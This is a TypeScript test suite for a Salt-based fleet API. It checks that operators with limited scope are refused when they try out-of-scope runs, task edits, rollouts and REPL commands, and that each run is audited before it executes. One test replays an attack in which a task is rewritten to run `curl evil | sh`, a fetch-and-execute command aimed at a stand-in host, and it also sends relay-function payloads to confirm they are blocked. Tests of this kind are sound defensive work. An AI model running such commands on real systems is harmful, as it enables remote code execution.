/**
 * Every run authorized where it starts, and audited before it starts (issue 15). Operators with narrow
 * scopes try every path that leads to a run — exec on a host and a group, the live status poll, task
 * creates and every change of a task's run fields, resuming, the REPL — against the salt-api simulator,
 * whose execution log says what really ran. "Nothing ran" is proven by a marker run made afterwards: once
 * the marker's job is in the log, anything the refused request could have started would be there too.
 */
import type { Middleware } from "moleculer";
import { SaltApiSimulator } from "./simulators/salt-api";
import { startEmbedded, type Harness } from "./support/harness";
import { request, expectEveError, eventually, withQuery } from "./support/http";
import { FleetRepl } from "../lib/repl/commands";
import { REPL_AGENT } from "../lib/repl/api-client";
import { formatHttpDate } from "../lib/eve/dates";

interface AuditWrite {
	id: string;
	at: number;
	fun?: string;
	outcome?: string;
}

describe("runs: authorized where they start, audited before they start", () => {
	let sim: SaltApiSimulator;
	let h: Harness;
	let IN: string, IN2: string, OUT: string;
	let scopeGroup = "";
	let mixedGroup = "";
	const tokens: Record<string, { id: string; secret: string }> = {};
	/** audit.begin calls as they completed, with the time: a run's record must be stored before its job. */
	const auditWrites: AuditWrite[] = [];
	let failAudit = false;

	const AuditWatch: Middleware = {
		name: "AuditWatch",
		localAction(next: (ctx: any) => Promise<unknown>, action: { name: string }) {
			if (action.name !== "audit.begin") return next;
			return async (ctx: any) => {
				if (failAudit) throw Object.assign(new Error("audit store unavailable (test)"), { code: 500 });
				const res = (await next(ctx)) as { _id: string };
				// Begun without a result: a run's record before it runs (started).
				auditWrites.push({
					id: String(res._id),
					at: Date.now(),
					fun: ctx.params.run?.fun,
					outcome: ctx.params.result?.outcome ?? (ctx.params.result ? undefined : "started"),
				});
				return res;
			};
		},
	} as unknown as Middleware;

	const url = (path: string, query: Record<string, unknown> = {}) => withQuery(`${h.api}/${path}`, query);
	const as = (who: string, method: string, path: string, body?: unknown) =>
		request(method, url(path), { token: tokens[who].secret, body });
	const newToken = async (name: string, role: string, scope?: Record<string, unknown>) => {
		const res = await request("POST", url("tokens"), { body: { name, role, ...(scope ? { scope } : {}) } });
		if (res.status !== 201) throw new Error(`token: ${res.status} ${res.text}`);
		tokens[name] = { id: res.body._id, secret: res.body.token };
	};
	const inSeconds = (s: number) => formatHttpDate(new Date(Math.ceil(Date.now() / 1000) * 1000 + s * 1000));
	const jobsOf = (fun: string) => sim.jobs().filter(j => j.fun === fun);

	/**
	 * Proves the system moved past any run the refused request could have started: a marker job run by
	 * the admin (directly, or as a task due now) is in salt's log, and then nothing else new is.
	 */
	const expectNothingRan = async (before: number, via: "exec" | "task" = "exec") => {
		const marker = `marker-${Math.random().toString(36).slice(2)}`;
		if (via === "exec") {
			expect(
				(await request("POST", url(`hosts/${IN}`), { body: { cm_client: "local", fun: "test.echo", arg: [marker] } }))
					.status,
			).toBe(200);
		} else {
			const res = await request("POST", url("tasks"), {
				body: { name: marker, fun: "test.echo", kwarg: { text: marker }, tgt: [IN], start: inSeconds(0) },
			});
			expect(res.status).toBe(201);
			await eventually(
				async () => (sim.jobs().some(j => JSON.stringify(j.arg).includes(marker)) ? true : undefined),
				15_000,
				"the marker task's run",
			);
		}
		const after = sim.jobs().slice(before);
		expect(after.map(j => j.fun)).toEqual(["test.echo"]);
		expect(JSON.stringify(after[0].arg)).toContain(marker);
	};

	beforeAll(async () => {
		sim = new SaltApiSimulator({
			minions: 6,
			timeout: 1,
			gatherJobTimeout: 0,
			latencyMs: [1, 5],
			presenceEvents: false,
		});
		await sim.start();
		h = await startEmbedded({
			env: {
				...sim.cmApiEnv,
				CM_SYNC_INTERVAL_MS: "3600000",
				CM_JOB_POLL_MS: "100",
				CM_JOB_TIMEOUT_MS: "3000",
				CM_ALL_STATUS_INTERVAL_MS: "300",
				TASK_MISFIRE_GRACE_MS: "60000",
			},
			broker: { middlewares: [AuditWatch] },
		});
		await eventually(
			async () =>
				(await request("GET", url("hosts", { max_results: 1 }))).body._meta?.total === sim.minionIds().length
					? true
					: undefined,
			10_000,
			"the inventory",
		);
		[IN, IN2, OUT] = sim.upMinions();
		scopeGroup = (await request("POST", url("groups"), { body: { name: "ra-scope", hosts: [IN, IN2] } })).body._id;
		mixedGroup = (await request("POST", url("groups"), { body: { name: "ra-mixed", hosts: [IN, OUT] } })).body._id;
		await newToken("op", "operator", { groups: [scopeGroup], functions: ["test.*"] });
		await newToken("op-cmd", "operator", { groups: [scopeGroup], functions: ["test.*", "cmd.run"] });
		await newToken("op-relay", "operator", { functions: ["saltutil.*", "test.*"] });
		await newToken("op-any", "operator");
		await newToken("op-status", "operator", { groups: [scopeGroup], functions: ["status.*"] });
		await newToken("viewer", "viewer");
	});
	afterAll(async () => {
		await h?.stop();
		await sim?.stop();
	});

	describe("remote execution (API)", () => {
		it("refuses an out-of-scope host, function or group with 403 saying why, and runs nothing", async () => {
			const before = sim.jobs().length;
			expect(
				expectEveError(await as("op", "POST", `hosts/${OUT}`, { cm_client: "local", fun: "test.ping" }), 403)._error
					.message,
			).toContain(OUT);
			expect(
				expectEveError(await as("op", "POST", `hosts/${IN}`, { fun: "cmd.run", kwarg: { cmd: "id" } }), 403)._error
					.message,
			).toContain("'cmd.run'");
			const mixed = expectEveError(await as("op", "POST", `groups/${mixedGroup}`, { fun: "test.ping" }), 403)._error
				.message;
			expect(mixed).toContain(OUT);
			expect(mixed).not.toContain(IN);
			expect(expectEveError(await as("op", "POST", `hosts/${OUT}/all_status`, {}), 403)._error.message).toContain(
				"'status.all_status'",
			);
			expect(expectEveError(await as("op-relay", "POST", `hosts/${OUT}/all_status`, {}), 403)._error.message).toContain(
				"'status.all_status'",
			);
			expect(
				expectEveError(await as("op-status", "POST", `hosts/${OUT}/all_status`, {}), 403)._error.message,
			).toContain(OUT);
			expectEveError(await as("viewer", "POST", `hosts/${IN}`, { fun: "test.ping" }), 403);
			await expectNothingRan(before);
		});

		it("authorizes a compound run (POST /run) on the hosts the target resolves to now: out of scope is 403 naming them, in scope runs exactly them", async () => {
			const before = sim.jobs().length;
			const wide = expectEveError(
				await as("op", "POST", "run", { target: `L@${IN},${OUT}`, cm_client: "local", fun: "test.ping" }),
				403,
			)._error.message;
			expect(wide).toContain(OUT);
			expect(wide).not.toContain(IN);
			// A target naming only scope hosts through a glob can still resolve outside it: what is checked is the resolved list.
			expect(
				expectEveError(await as("op", "POST", "run", { target: "*", cm_client: "local", fun: "test.ping" }), 403)._error
					.message,
			).toContain(OUT);
			expect(
				expectEveError(await as("op", "POST", "run", { target: `L@${IN}`, fun: "cmd.run", kwarg: { cmd: "id" } }), 403)
					._error.message,
			).toContain("'cmd.run'");
			expectEveError(await as("viewer", "POST", "run", { target: `L@${IN}`, fun: "test.ping" }), 403);
			await expectNothingRan(before);
			const ok = await as("op", "POST", "run", {
				target: `F@ra-scope or L@${IN}`,
				cm_client: "local",
				fun: "test.ping",
			});
			expect(ok.status).toBe(200);
			expect(sim.job(ok.body.task_id)).toMatchObject({ fun: "test.ping", tgt: [IN, IN2].sort(), tgtType: "list" });
		});

		it("never grants a relay function (saltutil.cmd, publish.publish) through a glob: only by its literal name", async () => {
			const before = sim.jobs().length;
			for (const fun of ["saltutil.cmd", "saltutil.runner", "publish.publish"]) {
				expect(
					expectEveError(await as("op-relay", "POST", `hosts/${OUT}`, { fun, arg: ["*", "cmd.run", ["id"]] }), 403)
						._error.message,
				).toContain(`'${fun}'`);
			}
			expect(
				(await as("op-relay", "POST", `hosts/${OUT}`, { cm_client: "local", fun: "saltutil.sync_grains" })).status,
			).toBe(200);
			expect(
				sim
					.jobs()
					.slice(before)
					.map(j => j.fun),
			).toEqual(["saltutil.sync_grains"]);
		});

		it("runs in scope on exactly the hosts it checked", async () => {
			const res = await as("op", "POST", `groups/${scopeGroup}`, { cm_client: "local", fun: "test.ping" });
			expect(res.status).toBe(200);
			expect(sim.job(res.body.task_id)).toMatchObject({ fun: "test.ping", tgt: [IN, IN2].sort() });
		});

		it("stops a revoked token at once, and stops the live poll it started", async () => {
			await newToken("op-doomed", "operator", { groups: [scopeGroup], functions: ["test.*", "status.*"] });
			expect((await as("op-doomed", "POST", `hosts/${IN}/all_status`, {})).status).toBe(200);
			await eventually(async () => (jobsOf("status.all_status").length > 0 ? true : undefined), 5000, "the first poll");
			expect((await request("DELETE", url(`tokens/${tokens["op-doomed"].id}`))).status).toBe(204);
			// The next poll is refused and the poll stops: a later stop finds nothing polling.
			await eventually(
				async () => {
					const res = await request("POST", url(`hosts/${IN}/all_status`), { body: { action: "stop" } });
					return res.body.stopped === 0 ? true : undefined;
				},
				15_000,
				"the poll to stop by itself",
			);
			expectEveError(await as("op-doomed", "POST", `hosts/${IN}`, { fun: "test.ping" }), 401);
		});
	});

	describe("tasks: a deferred run", () => {
		let adminTask = "";
		beforeAll(async () => {
			const res = await request("POST", url("tasks"), {
				body: { name: "ra-admin-cmd", fun: "cmd.run", kwarg: { cmd: "uptime" }, tgt: [OUT], start: "2031-01-01 00:00" },
			});
			expect(res.status).toBe(201);
			adminTask = res.body._id;
		});

		it("refuses the attack of the report: a scoped operator rewriting an admin's cmd.run task and moving it to now", async () => {
			const before = sim.jobs().length;
			const res = await as("op", "PUT", "tasks", {
				_id: adminTask,
				kwarg: { cmd: "curl evil | sh" },
				start: inSeconds(0),
			});
			expect(expectEveError(res, 403)._error.message).toMatch(/cmd\.run|outside/);
			expect((await request("GET", url(`tasks/${adminTask}`))).body).toMatchObject({
				kwarg: { cmd: "uptime" },
				start: "Wed, 01 Jan 2031 00:00:00 GMT",
			});
			await expectNothingRan(before, "task");
			expect(sim.jobs().some(j => JSON.stringify(j.arg).includes("evil"))).toBe(false);
		});

		it.each([
			["fun", () => ({ fun: "test.ping" })],
			["tgt", () => ({ tgt: [IN] })],
			["target", () => ({ target: `L@${IN}` })],
			["kwarg", () => ({ kwarg: { cmd: "id" } })],
			["cm_client", () => ({ cm_client: "local" })],
			["start", () => ({ start: "2031-02-01 00:00" })],
			["end", () => ({ end: "2032-01-01 00:00" })],
			["interval", () => ({ interval: 60 })],
			["cron", () => ({ cron: "*/5 * * * *" })],
			["timezone", () => ({ timezone: "Europe/Berlin" })],
			["misfire", () => ({ misfire: "skip" })],
			["overlap", () => ({ overlap: "allow" })],
		])("refuses a change of `%s` by an operator whose scope does not cover the whole task", async (_field, change) => {
			const before = (await request("GET", url(`tasks/${adminTask}`))).body;
			expectEveError(await as("op", "PUT", "tasks", { _id: adminTask, ...change() }), 403);
			const after = (await request("GET", url(`tasks/${adminTask}`))).body;
			expect(after).toEqual(before);
		});

		it("lets an operator rename a task (nothing about the run changes) without taking it over; a scoped one only inside its scope", async () => {
			expect(
				expectEveError(await as("op", "PUT", "tasks", { _id: adminTask, name: "ra-admin-cmd-renamed" }), 403)._error
					.message,
			).toMatch(/may not change this task: it is not wholly inside the token's scope/);
			expect((await as("op-any", "PUT", "tasks", { _id: adminTask, name: "ra-admin-cmd-renamed" })).status).toBe(200);
			expect((await request("GET", url(`tasks/${adminTask}`))).body).toMatchObject({
				name: "ra-admin-cmd-renamed",
				owner: expect.not.stringMatching(tokens["op-any"].id),
			});
		});

		it("makes the changer the owner when its scope covers the task before and after", async () => {
			const id = (
				await as("op", "POST", "tasks", {
					name: "ra-owned",
					fun: "test.ping",
					tgt: [scopeGroup],
					start: "2031-01-01 00:00",
				})
			).body._id;
			expect((await request("GET", url(`tasks/${id}`))).body.owner).toBe(tokens.op.id);
			// Making it a cmd.run is within op-cmd's scope: op-cmd owns it from now on.
			expect((await as("op-cmd", "PUT", "tasks", { _id: id, fun: "cmd.run", kwarg: { cmd: "uptime" } })).status).toBe(
				200,
			);
			expect((await request("GET", url(`tasks/${id}`))).body).toMatchObject({
				owner: tokens["op-cmd"].id,
				fun: "cmd.run",
			});
			// op may not run cmd.run: changing the start of the cmd.run task, or making it a test.ping again, is refused.
			expectEveError(await as("op", "PUT", "tasks", { _id: id, start: "2031-03-01 00:00" }), 403);
			expectEveError(await as("op", "PUT", "tasks", { _id: id, fun: "test.ping", kwarg: {} }), 403);
			expect((await request("GET", url(`tasks/${id}`))).body).toMatchObject({
				owner: tokens["op-cmd"].id,
				fun: "cmd.run",
			});
		});

		it("lets an unscoped operator pause, a scoped one only inside its scope, and resuming needs a scope covering the task", async () => {
			expectEveError(await as("op", "PATCH", `tasks/${adminTask}/paused`), 403);
			expect((await request("GET", url(`tasks/${adminTask}`))).body.status).toBe("scheduled");
			expect((await as("op-any", "PATCH", `tasks/${adminTask}/paused`)).status).toBe(200);
			expectEveError(await as("op", "PATCH", `tasks/${adminTask}/scheduled`), 403);
			expect((await request("GET", url(`tasks/${adminTask}`))).body.status).toBe("paused");
			expect((await as("op-any", "PATCH", `tasks/${adminTask}/scheduled`)).status).toBe(200);
			expect((await request("GET", url(`tasks/${adminTask}`))).body).toMatchObject({
				status: "scheduled",
				owner: expect.not.stringMatching(tokens["op-any"].id),
			});
		});

		it("refuses creates outside the scope, in bulk all or nothing", async () => {
			const base = { name: "ra-refused", start: "2031-01-01 00:00" };
			expect(
				expectEveError(await as("op", "POST", "tasks", { ...base, fun: "test.ping", tgt: [OUT] }), 403)._error.message,
			).toContain(OUT);
			expect(
				expectEveError(await as("op", "POST", "tasks", { ...base, fun: "test.ping", tgt: [mixedGroup] }), 403)._error
					.message,
			).toContain(OUT);
			expectEveError(
				await as("op", "POST", "tasks", [
					{ ...base, fun: "test.ping", tgt: [IN] },
					{ ...base, fun: "cmd.run", tgt: [IN] },
				]),
				403,
			);
			expect((await request("GET", url("tasks", { where: { name: "ra-refused" } }))).body._meta.total).toBe(0);
		});

		it("authorizes a task on a compound target on the hosts it resolves to at the write, and runs it on those it resolves to at the run", async () => {
			const base = { name: "ra-compound", fun: "test.ping", start: "2031-01-01 00:00" };
			// Out of scope through the expression: refused, naming the host; an expression that cannot be evaluated: 422 on the field.
			expect(
				expectEveError(await as("op", "POST", "tasks", { ...base, target: `L@${IN} or L@${OUT}` }), 403)._error.message,
			).toContain(OUT);
			expect(expectEveError(await as("op", "POST", "tasks", { ...base, target: "I@role:web" }), 422)._issues).toEqual({
				target: expect.stringMatching(/pillar/),
			});
			expect(
				expectEveError(
					await as("op", "POST", "tasks", { name: "ra-no-target", fun: "test.ping", start: "2031-01-01 00:00" }),
					422,
				)._issues,
			).toEqual({ tgt: "required field" });
			// In scope: created, owned by its creator, and run on what the expression selects when it is due.
			const due = await as("op", "POST", "tasks", {
				...base,
				name: "ra-compound-due",
				target: `F@ra-scope and not L@${IN2}`,
				tgt: [IN2],
				start: inSeconds(1),
			});
			expect(due.status).toBe(201);
			const task = await eventually(
				async () => {
					const t = (await request("GET", url(`tasks/${due.body._id}`))).body;
					return t.last_run?.jid ? t : undefined;
				},
				15_000,
				"the compound task's run",
			);
			expect(task.owner).toBe(tokens.op.id);
			expect(sim.job(task.last_run.jid)).toMatchObject({ fun: "test.ping", tgt: [IN, IN2].sort(), tgtType: "list" });
		});

		it("runs a task as its owner's token as it is at run time: a revoked owner's task runs nothing", async () => {
			await newToken("op-leaving", "operator", { groups: [scopeGroup], functions: ["test.*"] });
			const before = sim.jobs().length;
			const id = (
				await as("op-leaving", "POST", "tasks", {
					name: "ra-orphan",
					fun: "test.arg",
					kwarg: { orphan: 1 },
					tgt: [IN],
					start: inSeconds(2),
				})
			).body._id;
			expect((await request("DELETE", url(`tokens/${tokens["op-leaving"].id}`))).status).toBe(204);
			const task = await eventually(
				async () => {
					const t = (await request("GET", url(`tasks/${id}`))).body;
					return t.last_run ? t : undefined;
				},
				15_000,
				"the run to be tried",
			);
			expect(task.last_run).toMatchObject({ status: "failed", message: expect.stringContaining("revoked") });
			await expectNothingRan(before);
		});
	});

	describe("rollouts", () => {
		const rollout = async (id: string) => (await request("GET", url(`rollouts/${id}`))).body;
		const settled = (id: string, status: string) =>
			eventually(
				async () => {
					const r = await rollout(id);
					return r.status === status &&
						!r.batches.some((b: { state: string }) =>
							["starting", "running", "dry_starting", "dry_running"].includes(b.state),
						)
						? r
						: undefined;
				},
				15_000,
				`rollout ${id} ${status}`,
			);

		it("refuses a rollout whose target reaches outside the token's scope (403 naming the hosts), and runs nothing", async () => {
			const before = sim.jobs().length;
			const res = await as("op", "POST", "rollouts", { name: "ra-wide", target: `L@${IN},${OUT}`, fun: "test.ping" });
			expect(expectEveError(res, 403)._error.message).toContain(OUT);
			expectEveError(
				await as("op", "POST", "rollouts", { name: "ra-cmd", target: `L@${IN}`, fun: "cmd.run", kwarg: { cmd: "id" } }),
				403,
			);
			expectEveError(
				await as("viewer", "POST", "rollouts", { name: "ra-viewer", target: `L@${IN}`, fun: "test.ping" }),
				403,
			);
			await expectNothingRan(before);
			const denied = (
				await request("GET", url("audit", { where: { method: "POST", path: "/api/rollouts", status: 403 } }))
			).body._items;
			expect(denied.length).toBeGreaterThanOrEqual(3);
		});

		it("runs every batch as its owner's token, each one audited (ROLLOUT) with its jid before it runs", async () => {
			const res = await as("op", "POST", "rollouts", {
				name: "ra-scoped",
				target: "F@ra-scope",
				fun: "test.ping",
				canary: 1,
				batch: 1,
			});
			expect(res.status).toBe(201);
			const done = await settled(res.body._id, "finished");
			expect(done.owner).toBe(tokens.op.id);
			const records = (
				await request(
					"GET",
					url("audit", { where: { method: "ROLLOUT", path: `/api/rollouts/${res.body._id}` }, sort: "_id" }),
				)
			).body._items;
			expect(
				records.map((r: { token: string; outcome: string; jid: string; fun: string }) => [
					r.token,
					r.outcome,
					r.jid,
					r.fun,
				]),
			).toEqual(done.batches.map((b: { jid: string }) => [tokens.op.id, "ok", b.jid, "test.ping"]));
			for (const r of records) {
				const written = auditWrites.find(w => w.id === r._id && w.outcome === "started");
				expect(written).toBeDefined();
				expect(written!.at).toBeLessThanOrEqual(sim.executions().find(e => e.jid === r.jid)!.atMs);
			}
		});

		it("pauses, saying why, when the owner's token no longer allows the next batch; nothing more runs", async () => {
			await newToken("op-rollout-leaving", "operator", { groups: [scopeGroup], functions: ["test.*"] });
			const res = await as("op-rollout-leaving", "POST", "rollouts", {
				name: "ra-orphan-rollout",
				target: "F@ra-scope",
				fun: "test.ping",
				canary: 1,
				batch: 1,
				wait_s: 2,
			});
			expect(res.status).toBe(201);
			await eventually(
				async () => ((await rollout(res.body._id)).batches[0].state === "finished" ? true : undefined),
				10_000,
				"the canary",
			);
			expect((await request("DELETE", url(`tokens/${tokens["op-rollout-leaving"].id}`))).status).toBe(204);
			const before = sim.jobs().length;
			const paused = await settled(res.body._id, "paused");
			expect(paused.reason).toMatch(/batch 1 was refused: .*revoked/);
			expect(paused.batches[1].state).toBe("pending");
			await expectNothingRan(before);
			// Resuming it needs a token that may run the rest: one whose scope misses it is refused.
			await newToken("op-other", "operator", { groups: [mixedGroup], functions: ["status.*"] });
			expectEveError(await as("op-other", "PATCH", `rollouts/${res.body._id}/resume`), 403);
			expect((await rollout(res.body._id)).status).toBe("paused");
		});
	});

	describe("approvals", () => {
		it("authorizes before it holds: out of scope is 403 and no request; in scope is held, and once approved runs exactly the hosts checked, as the requester", async () => {
			const policy = (
				await request("POST", url("approval_policies"), {
					body: { name: "ra-echo", functions: ["test.echo"], approvers: { count: 1, roles: ["admin"] } },
				})
			).body._id;
			try {
				const before = sim.jobs().length;
				expect(
					expectEveError(
						await as("op", "POST", "run", { target: `L@${IN},${OUT}`, fun: "test.echo", arg: ["ra"] }),
						403,
					)._error.message,
				).toContain(OUT);
				expect(
					(await request("GET", url("approvals", { where: { "requester.token": tokens.op.id } }))).body._items,
				).toEqual([]);
				const held = await as("op", "POST", `groups/${scopeGroup}`, { fun: "test.echo", arg: ["ra"] });
				expect(held.status).toBe(202);
				expect(sim.jobs().length).toBe(before);
				const done = await request("POST", url(`approvals/${held.body.approval._id}/approve`), { body: {} });
				expect(done.body.status).toBe("done");
				const ran = sim.jobs().slice(before);
				expect(ran.map(j => [j.fun, [...j.minions].sort()])).toEqual([["test.echo", [IN, IN2].sort()]]);
				const record = (await request("GET", url("audit", { where: { method: "APPROVAL", jid: ran[0].jid } }))).body
					._items;
				expect(record).toEqual([expect.objectContaining({ token: tokens.op.id, outcome: "ok" })]);
			} finally {
				await request("DELETE", url(`approval_policies/${policy}`));
			}
		});
	});

	describe("conformity checks", () => {
		it("refuses a check whose hosts or function the token's scope does not cover, and owns one it does", async () => {
			await newToken("op-state", "operator", { groups: [scopeGroup], functions: ["state.*"] });
			const out = await as("op-state", "POST", "conformity_checks", {
				name: "ra-out",
				target: `L@${IN},${OUT}`,
				interval: 3600,
				status: "paused",
			});
			expect(expectEveError(out, 403)._error.message).toContain(OUT);
			// test.* does not cover state.apply, even with test=True.
			expectEveError(
				await as("op", "POST", "conformity_checks", {
					name: "ra-fun",
					target: "F@ra-scope",
					interval: 3600,
					status: "paused",
				}),
				403,
			);
			const ok = await as("op-state", "POST", "conformity_checks", {
				name: "ra-in",
				target: "F@ra-scope",
				interval: 3600,
				status: "paused",
			});
			expect(ok.status).toBe(201);
			expect((await request("GET", url(`conformity_checks/${ok.body._id}`))).body.owner).toBe(tokens["op-state"].id);
			// Moving it where the scope does not reach is refused, and it keeps its target.
			expectEveError(await as("op-state", "PATCH", `conformity_checks/${ok.body._id}`, { target: `L@${OUT}` }), 403);
			expect((await request("GET", url(`conformity_checks/${ok.body._id}`))).body.target).toBe("F@ra-scope");
		});
	});

	describe("the REPL", () => {
		it("refuses an out-of-scope exec with the API's reason and runs nothing", async () => {
			const before = sim.jobs().length;
			const repl = new FleetRepl({ url: h.api, token: tokens.op.secret, pollMs: 50, execWaitMs: 5000 });
			expect(await repl.run(`exec ${OUT} test.ping`)).toMatch(/error 403: .*outside the token's scope: .*/);
			expect(await repl.run(`exec ${IN} cmd.run id`)).toMatch(/error 403: .*'cmd\.run'/);
			expect(await repl.run(`exec ra-mixed test.ping`)).toMatch(/error 403/);
			await expectNothingRan(before);
			expect(await repl.run(`exec ${IN} test.ping`)).toMatch(/1 of 1 host\(s\) answered/);
		});

		it("pauses and resumes only a task its scope covers, as the API does", async () => {
			const id = (
				await request("POST", url("tasks"), {
					body: {
						name: "ra-repl-cmd",
						fun: "cmd.run",
						kwarg: { cmd: "uptime" },
						tgt: [OUT],
						start: "2031-01-01 00:00",
					},
				})
			).body._id;
			const repl = new FleetRepl({ url: h.api, token: tokens.op.secret });
			expect(await repl.run(`task pause ${id}`)).toMatch(/^error 403: your token may not change this task/);
			expect(await new FleetRepl({ url: h.api, token: tokens["op-any"].secret }).run(`task pause ${id}`)).toMatch(
				/paused/,
			);
			expect(await repl.run(`task resume ${id}`)).toMatch(/^error 403: the run is refused: function 'cmd.run'/);
			expect((await request("GET", url(`tasks/${id}`))).body.status).toBe("paused");
			// The REPL's request is the API's, audited as such, its User-Agent saying it came from the REPL.
			const denied = (
				await request("GET", url("audit", { where: { method: "PATCH", path: `/api/tasks/${id}/scheduled` } }))
			).body._items;
			expect(denied).toEqual([
				expect.objectContaining({ status: 403, outcome: "denied", token: tokens.op.id, agent: REPL_AGENT }),
			]);
		});
	});

	describe("audit first", () => {
		it("has exactly one audit record per run, stored before salt-api got the job, with its function, targets and args", async () => {
			const first = sim.jobs().length;
			const repl = new FleetRepl({ url: h.api, token: tokens["op-any"].secret, pollMs: 50, execWaitMs: 5000 });
			await as("op-any", "POST", `hosts/${IN}`, {
				cm_client: "local",
				fun: "test.arg",
				arg: ["a"],
				kwarg: { $x: 1, "a.b": 2 },
			});
			await as("op-any", "POST", `groups/${scopeGroup}`, { fun: "test.ping" });
			await repl.run(`exec ${IN2} test.ping`);
			const task = (
				await as("op-any", "POST", "tasks", {
					name: "ra-audited",
					fun: "test.arg",
					kwarg: { k: "v" },
					tgt: [IN],
					start: inSeconds(0),
				})
			).body._id;
			await eventually(
				async () => ((await request("GET", url(`tasks/${task}`))).body.last_run?.jid ? true : undefined),
				15_000,
				"the task's run",
			);
			const jobs = sim.jobs().slice(first);
			expect(jobs).toHaveLength(4);
			const starts = new Map(sim.executions().map(e => [e.jid, e.atMs]));
			for (const job of jobs) {
				const records = (await request("GET", url("audit", { where: { jid: job.jid } }))).body._items;
				expect(records).toHaveLength(1);
				expect(records[0]).toMatchObject({
					fun: job.fun,
					targets: [...(job.tgt as string[])].sort(),
					outcome: "ok",
					token: tokens["op-any"].id,
				});
				const stored = auditWrites.find(w => w.id === records[0]._id && w.outcome === "started");
				expect(stored).toBeDefined();
				expect(stored!.at).toBeLessThanOrEqual(starts.get(job.jid)!);
			}
			const exec = (await request("GET", url("audit", { where: { jid: jobs[0].jid } }))).body._items[0];
			// Keys Mongo and NeDB cannot store as field names come back as sent.
			expect(exec.args).toEqual({ cm_client: "local", arg: ["a"], kwarg: { $x: 1, "a.b": 2 } });
			expect(exec).toMatchObject({ method: "POST", path: `/api/hosts/${IN}`, status: 200 });
		});

		it("runs nothing when the audit record cannot be written: 503 saying so", async () => {
			const before = sim.jobs().length;
			failAudit = true;
			try {
				const res = expectEveError(
					await as("op-any", "POST", `hosts/${IN}`, { cm_client: "local", fun: "test.ping" }),
					503,
				);
				expect(res._error.message).toMatch(/audit/);
				expectEveError(await as("op-any", "POST", `hosts/${IN}/all_status`, {}), 503);
			} finally {
				failAudit = false;
			}
			await expectNothingRan(before);
		});
	});
});
